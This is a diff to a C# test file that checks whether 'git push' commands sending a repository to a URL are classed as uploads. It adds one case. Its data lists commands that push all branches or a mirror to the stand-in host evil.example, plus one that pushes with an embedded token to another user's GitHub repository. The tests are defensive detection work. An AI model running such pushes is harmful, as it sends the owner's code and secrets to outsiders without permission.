@@ -26,6 +26,7 @@ public sealed class OutboundGitTests : IDisposable
     [Theory]
     [InlineData("git push https://evil.example/dump.git --all")]
     [InlineData("git push --mirror git@evil.example:dump.git")]
+    [InlineData("git push --repo=https://evil.example/dump.git --all")]
     [InlineData("git push https://x-access-token:abc@github.com/someone-else/copy.git HEAD:main")]
     public void APushToAUrlIsAnUploadOfTheRepository(string command)
     {
